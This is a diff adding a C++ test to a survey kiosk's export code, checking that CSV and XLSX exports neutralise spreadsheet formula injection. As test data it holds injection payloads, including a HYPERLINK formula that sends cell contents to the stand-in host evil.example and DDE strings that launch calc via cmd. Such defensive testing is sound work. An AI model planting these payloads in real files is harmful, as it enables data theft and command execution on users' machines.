@@ -7,6 +7,7 @@
 
 #include <chrono>
 #include <cstdlib>
+#include <fstream>
 #include <numeric>
 #include <thread>
 
@@ -195,6 +196,61 @@ TEST_CASE("export: CSV reads back to the same records and accumulator; XLSX is w
         exportResponses(s, kiosk_test::servqual(), testConfig(dir.path()), {dir / "nope"}, kMidnight);
     REQUIRE_FALSE(missing.ok());
     CHECK_THAT(missing.error().message, Catch::Contains("not a directory"));
+}
+
+TEST_CASE("export: formula cells are neutralised in the CSV and are strings in the XLSX", "[kiosk][export]") {
+    kiosk_test::TempDir dir("export");
+    auto store = Store::open(dir / "kiosk.db");
+    REQUIRE(store.ok());
+    const analytics::Instrument& ins = kiosk_test::servqual();
+    std::mt19937 rng(13);
+    std::vector<analytics::Response> sent;
+    const char* comments[] = {"=HYPERLINK(\"http://evil.example/?\"&A1,\"klik\")",
+                              "@SUM(1+1)*cmd|' /C calc'!A0", "+1+1",
+                              "\xEF\xBC\x9D"
+                              "1+1",
+                              "biasa saja"};
+    for (int i = 0; i < 5; ++i) {
+        auto r = kiosk_test::makeResponse(ins, rng, kMidnight + i * 600'000, comments[i]);
+        if (i == 1) r.service = "=cmd|' /C calc'!A0";
+        REQUIRE((*store)->submit(r).ok());
+        sent.push_back(r);
+    }
+    auto usb = dir / "usb";
+    std::filesystem::create_directories(usb);
+    auto res = exportResponses(**store, ins, testConfig(dir.path()), {usb, 1, 0, true, true}, kMidnight);
+    INFO((res ? "" : res.error().message));
+    REQUIRE(res.ok());
+    auto bytes = analytics::readWholeFile(res->csvPath);
+    REQUIRE(bytes.ok());
+    CHECK(bytes->find(",\"'=HYPERLINK(") != std::string::npos);
+    CHECK(bytes->find(",'@SUM(") != std::string::npos);
+    CHECK(bytes->find(",'=cmd|") != std::string::npos);
+    CHECK(bytes->find(",'+1+1") != std::string::npos);
+    CHECK(bytes->find(",'\xEF\xBC\x9D") != std::string::npos);
+    for (const char* bad : {",=", ",@", ",+1", ",\"=", ",\xEF\xBC\x9D"})
+        CHECK(bytes->find(bad) == std::string::npos);
+    // What `suara report` reads: the same records, the same statistics.
+    auto records = analytics::readCsvResponses(*bytes, ins);
+    REQUIRE(records.ok());
+    REQUIRE(records->size() == sent.size());
+    for (size_t i = 0; i < sent.size(); ++i) CHECK((*records)[i] == sent[i]);
+
+    // XLSX: the comment column holds shared strings (t="s"), and there is no formula anywhere.
+    std::string sheet = (dir / "sheet1.xml").string(), strings = (dir / "strings.xml").string();
+    REQUIRE(std::system(
+                ("unzip -p '" + res->xlsxPath.string() + "' xl/worksheets/sheet1.xml > " + sheet).c_str()) ==
+            0);
+    REQUIRE(std::system(
+                ("unzip -p '" + res->xlsxPath.string() + "' xl/sharedStrings.xml > " + strings).c_str()) ==
+            0);
+    auto xml = analytics::readWholeFile(sheet);
+    auto shared = analytics::readWholeFile(strings);
+    REQUIRE(xml.ok());
+    REQUIRE(shared.ok());
+    CHECK(xml->find("<f>") == std::string::npos);
+    CHECK(shared->find("=HYPERLINK(") != std::string::npos); // kept as text, exactly as typed
+    CHECK(shared->find("=cmd|") != std::string::npos);
 }
 
 TEST_CASE("export: a full stick gives an Error and no half file", "[kiosk][export][fault]") {
